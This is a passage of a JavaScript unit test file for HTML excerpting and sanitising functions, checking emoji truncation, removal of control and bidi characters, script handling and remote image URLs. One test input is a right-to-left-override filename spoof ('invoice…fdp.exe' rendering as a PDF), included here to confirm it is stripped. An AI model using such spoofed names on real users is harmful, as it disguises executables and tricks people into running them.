    expect(excerpt).toBe(`${'😀'.repeat(9)}…`);
    expect(excerpt).not.toMatch(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/);
  });

  it('removes controls and bidi overrides, keeps other scripts', () => {
    expect(htmlExcerpt('<p>invoice\u202Efdp.exe\u0007 Привет مرحبا 你好</p>', 100)).toBe('invoice fdp.exe Привет مرحبا 你好');
  });

  it('returns an empty string for no room or no text', () => {
    expect(htmlExcerpt('<p>x</p>', 0)).toBe('');
    expect(htmlExcerpt('<script>x</script>', 10)).toBe('');
  });
});

describe('sanitizeHtml: remote images', () => {
  it('keeps http and https CSS backgrounds, as it keeps http and https img sources', () => {
    const html = '<div style="background:url(http://cdn.example/a.gif)"><img src="http://cdn.example/b.gif"></div>';
    expect(sanitizeHtml(html).removed).toEqual([]);
  });
});
